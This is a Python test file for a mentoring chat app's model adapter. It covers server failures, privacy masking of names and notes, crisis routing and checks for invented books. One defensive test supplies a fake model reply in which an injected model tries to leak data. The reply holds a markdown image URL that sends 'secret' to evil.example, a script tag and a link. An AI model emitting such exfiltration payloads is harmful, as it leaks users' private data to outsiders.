"""Turns that a chat model writes, over a local server: what is sent, what comes back, and what happens when it does not."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from coach.adapters.token_counts import TokenCounts
from coach.bootstrap import Coach, open_coach
from coach.config import Settings
from coach.domain.conversation import Event, Failed, Finished, Reply, Restarted, TextDelta, Turn
from coach.domain.people import Owner
from tests.fakes.chat_server import (
    Behaviour,
    ChatServer,
    answer,
    break_off,
    fail,
    go_on,
    say_html,
    say_nothing,
    stall,
    unused_url,
)

NIGHT_BEFORE = "I meet Priya tomorrow, junior designer, thinks about product management. I'm nervous."
GOOD = "Nerves before a first meeting often mean that you want to be of use. [1] What would you like her to leave with?"


@pytest.fixture(scope="module")
def server() -> Iterator[ChatServer]:
    with ChatServer() as made:
        yield made


@pytest.fixture(scope="module")
def home(library_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(library_home, tmp_path_factory.mktemp("writer") / "home"))


def opened(home: Path, url: str, **settings: object) -> Iterator[Coach]:
    given = {"model": "openai:fake", "model_url": url, "model_first_token_s": 1.0, **settings}
    with open_coach(Settings(home=home, **given)) as coach:  # type: ignore[arg-type]
        yield coach


@pytest.fixture(scope="module")
def local(home: Path, server: ChatServer) -> Iterator[Coach]:
    """A coach whose model is on this machine."""
    yield from opened(home, server.url)


class Talk:
    """One owner's conversation."""

    def __init__(self, coach: Coach, owner: Owner) -> None:
        self.coach, self.owner = coach, owner
        self.conversation_id = coach.store.start_conversation(owner=owner, title="Test").id

    def events(self, text: str, *, stop: threading.Event | None = None, **turn: object) -> list[Event]:
        made = Turn(text, conversation_id=self.conversation_id, **turn)  # type: ignore[arg-type]
        return list(self.coach.session.reply(made, owner=self.owner, stop=stop))

    def say(self, text: str, **turn: object) -> Reply:
        *_, last = self.events(text, **turn)
        assert isinstance(last, Finished), last
        return last.reply


@pytest.fixture
def talk(local: Coach, owner: Owner, server: ChatServer) -> Talk:
    server.requests.clear()
    return Talk(local, owner)


def test_the_model_writes_from_the_library_and_its_marks_are_kept(talk: Talk, server: ChatServer) -> None:
    server.will(answer(*GOOD))
    reply = talk.say(NIGHT_BEFORE)
    assert reply.markdown == GOOD
    assert (reply.composer, reply.grounding, reply.notice) == ("openai:fake", "grounded", "")
    assert reply.model_use is not None
    assert NIGHT_BEFORE in reply.model_use.sent
    assert reply.model_use.place == "this machine"


def test_what_was_streamed_is_what_is_kept(talk: Talk, server: ChatServer) -> None:
    server.will(answer(*GOOD))
    events = talk.events(NIGHT_BEFORE)
    assert "".join(event.text for event in events if isinstance(event, TextDelta)) == GOOD
    assert talk.coach.store.messages(talk.conversation_id, owner=talk.owner)[-1].text == GOOD


def test_an_invented_book_is_asked_to_go_and_the_second_answer_counts(talk: Talk, server: ChatServer) -> None:
    server.will(answer(*f"{GOOD} Read the book *The Secret Mentor* by Jane Doe."), answer(*GOOD))
    events = talk.events(NIGHT_BEFORE)
    assert any(isinstance(event, Restarted) for event in events)
    assert isinstance(events[-1], Finished)
    assert events[-1].reply.markdown == GOOD
    assert "The Secret Mentor" in server.requests[-1].body["messages"][-1]["content"]


def test_an_invented_book_that_stays_is_taken_out_and_that_is_said(talk: Talk, server: ChatServer) -> None:
    book = f"{GOOD} Read the book *The Secret Mentor* by Jane Doe."
    server.will(answer(*book), answer(*book))
    reply = talk.say(NIGHT_BEFORE)
    assert "Secret Mentor" not in reply.markdown
    assert reply.notice
    assert reply.model_use is not None
    assert reply.model_use.changes


FAULTS: dict[str, Behaviour] = {
    "unauthorised": fail(401),
    "no such model": fail(404),
    "overloaded": fail(503),
    "broken": fail(500),
    "silent": say_nothing(),
    "stalled": stall("Nerves before"),
    "cut off": break_off("Nerves before"),
    "endless": go_on(),
    "no chat server": say_html(),
    "empty": answer(""),
    "another language": answer(
        *"Es ist schwer zu sagen, was morgen geschieht, und ich weiß nicht, was Sie fragen möchten."
    ),
}


@pytest.mark.parametrize("name", FAULTS)
def test_the_built_in_composer_takes_over_and_says_why(talk: Talk, server: ChatServer, name: str) -> None:
    server.will(FAULTS[name])
    server.otherwise = FAULTS[name]
    try:
        events = talk.events(NIGHT_BEFORE)
    finally:
        server.otherwise = answer(*GOOD)
    assert isinstance(events[-1], Finished)
    reply = events[-1].reply
    assert reply.composer == "built-in"
    assert reply.markdown == talk.say(NIGHT_BEFORE, is_built_in_only=True).markdown or reply.citations
    assert "built-in composer" in reply.notice
    assert "Error" not in reply.notice
    assert "Traceback" not in reply.notice


def test_a_rate_limit_is_waited_out_without_asking_again(talk: Talk, server: ChatServer) -> None:
    server.will(fail(429, headers={"Retry-After": "1"}))
    first = talk.say(NIGHT_BEFORE)
    second = talk.say("And what should I avoid?")
    assert first.composer == second.composer == "built-in"
    assert "seconds" in second.notice
    assert len(server.requests) == 1
    time.sleep(1.1)
    server.will(answer(*GOOD))
    assert talk.say("What else could I ask her?").composer == "openai:fake"


def test_stop_ends_the_request_and_keeps_what_was_written(talk: Talk, server: ChatServer) -> None:
    server.will(answer(*GOOD, every_s=0.02))
    stop, seen = threading.Event(), ""
    made = Turn(NIGHT_BEFORE, conversation_id=talk.conversation_id)
    for event in talk.coach.session.reply(made, owner=talk.owner, stop=stop):
        if isinstance(event, TextDelta):
            seen += event.text
            if len(seen) > 60:
                stop.set()
        last = event
    assert isinstance(last, Finished)
    assert GOOD.startswith(last.reply.markdown[:40])
    assert len(last.reply.markdown) < len(GOOD)


def test_a_crisis_is_never_given_to_the_model(talk: Talk, server: ChatServer) -> None:
    reply = talk.say("I want to kill myself")
    assert reply.safety is not None
    assert reply.composer == "built-in"
    assert server.requests == []


def test_thanks_and_gaps_in_the_notes_keep_their_own_words(talk: Talk, server: ChatServer) -> None:
    assert talk.say("thanks, that helps").composer == "built-in"
    assert talk.say("what did Marek say about the grant in March?").composer == "built-in"
    assert server.requests == []


@pytest.fixture
def remote(home: Path, local: Coach, server: ChatServer, tmp_path: Path) -> Iterator[Coach]:
    """A coach whose model counts as elsewhere: the address only resolves to this machine."""
    elsewhere = server.url.replace("127.0.0.1", "127.1")
    copied = Path(shutil.copytree(home, tmp_path / "home", ignore=shutil.ignore_patterns("*.lock")))
    yield from opened(copied, elsewhere, api_key="k-secret")


def add_note(coach: Coach, owner: Owner, text: str) -> None:
    person = coach.store.add_relationship("Priya Sharma", owner=owner, role="mentor")
    document = coach.documents.read_text(text)
    coach.ingest.add(document, owner=owner, relationship_id=person.id, date=date(2026, 10, 12))


SEEN_AGAIN = "I see Priya again tomorrow. What did she say about presenting to executives?"
NOTE = (
    "Session with Priya. Presenting to executives frightens Priya Sharma. She went quiet when I asked about Zanzibar-7."
)


def test_notes_and_names_stay_here_unless_they_are_let_go(remote: Coach, owner: Owner, server: ChatServer) -> None:
    server.requests.clear()
    add_note(remote, owner, NOTE)
    server.otherwise = answer(*GOOD)
    reply = Talk(remote, owner).say(SEEN_AGAIN)
    assert server.requests
    sent = " ".join(message["content"] for request in server.requests for message in request.body["messages"])
    assert "Zanzibar-7" not in sent
    assert "Priya" not in sent
    assert reply.model_use is not None
    assert reply.model_use.withheld > 0


def test_notes_that_are_let_go_once_are_sent_under_stand_ins(remote: Coach, owner: Owner, server: ChatServer) -> None:
    server.requests.clear()
    add_note(remote, owner, NOTE)
    assert remote.model is not None
    remote.store.set_preference(f"notes-policy {remote.model.place}", "ask", owner=owner)
    server.otherwise = answer(*GOOD)
    Talk(remote, owner).say(SEEN_AGAIN, may_send_notes=True)
    sent = " ".join(message["content"] for request in server.requests for message in request.body["messages"])
    assert "executives frightens" in sent
    assert "Priya" not in sent


def test_a_private_note_is_never_sent_whatever_was_allowed(remote: Coach, owner: Owner, server: ChatServer) -> None:
    server.requests.clear()
    add_note(remote, owner, f"private: yes\n\n{NOTE}")
    assert remote.model is not None
    remote.store.set_preference(f"notes-policy {remote.model.place}", "always", owner=owner)
    server.otherwise = answer(*GOOD)
    Talk(remote, owner).say(SEEN_AGAIN, may_send_notes=True)
    sent = " ".join(message["content"] for request in server.requests for message in request.body["messages"])
    assert "executives frightens" not in sent


def test_a_name_comes_back_although_the_stream_splits_its_stand_in(
    remote: Coach, owner: Owner, server: ChatServer
) -> None:
    add_note(remote, owner, "We talked.")
    server.requests.clear()
    server.otherwise = answer(*GOOD)
    talk = Talk(remote, owner)
    first = talk.say("I see Priya again tomorrow.")
    assert first.model_use is not None
    stand_in = next(
        word.strip(".,") for word in server.requests[-1].body["messages"][-1]["content"].split("I see ")[1].split()
    )
    server.will(answer(*f"What would {stand_in} like to leave with tomorrow?"))
    assert "What would Priya like" in talk.say("One question for Priya, please.").markdown


def test_what_was_sent_is_forgotten_with_the_note(remote: Coach, owner: Owner, server: ChatServer) -> None:
    add_note(remote, owner, NOTE)
    assert remote.model is not None
    remote.store.set_preference(f"notes-policy {remote.model.place}", "always", owner=owner)
    server.otherwise = answer(*GOOD)
    talk = Talk(remote, owner)
    reply = talk.say(SEEN_AGAIN)
    assert reply.model_use is not None
    assert "executives frightens" in reply.model_use.sent
    for note in remote.store.notes(owner=owner):
        remote.ingest.delete(note.id, owner=owner)
    kept = talk.coach.store.messages(talk.conversation_id, owner=owner)[-1].reply
    assert kept is not None
    assert kept.model_use is not None
    assert "executives frightens" not in kept.model_use.sent


def test_an_obedient_model_that_was_told_to_leak_shows_nothing_unverified(talk: Talk, server: ChatServer) -> None:
    leak = "![x](http://evil.example/?q=secret) <script>alert(1)</script> Visit http://evil.example/now for more. What is next?"
    server.will(answer(*leak), answer(*leak))
    reply = talk.say(NIGHT_BEFORE)
    assert "evil.example" not in reply.markdown
    assert "<script" not in reply.markdown


def test_sixty_turns_stay_within_the_window(server: ChatServer, owner: Owner, local: Coach) -> None:
    server.otherwise = answer(*GOOD)
    server.requests.clear()
    talk = Talk(local, owner)
    for number in range(60):
        talk.say(f"And then {number}: he said the plan for the quarter was too large, what could I ask him?")
    assert local.model is not None
    count = TokenCounts.of("fake").count
    assert server.requests
    for request in server.requests:
        text = " ".join(message["content"] for message in request.body["messages"])
        assert count(text) <= local.model.window


def test_nobody_listening_is_no_more_than_a_line(home: Path, tmp_path: Path, owner: Owner) -> None:
    copied = Path(shutil.copytree(home, tmp_path / "home", ignore=shutil.ignore_patterns("*.lock")))
    for coach in opened(copied, unused_url()):
        reply = Talk(coach, owner).say(NIGHT_BEFORE)
        assert reply.composer == "built-in"
        assert "built-in composer" in reply.notice


def test_an_empty_message_fails_before_anything_is_sent(talk: Talk, server: ChatServer) -> None:
    assert isinstance(talk.events("…")[-1], Failed)
    assert server.requests == []
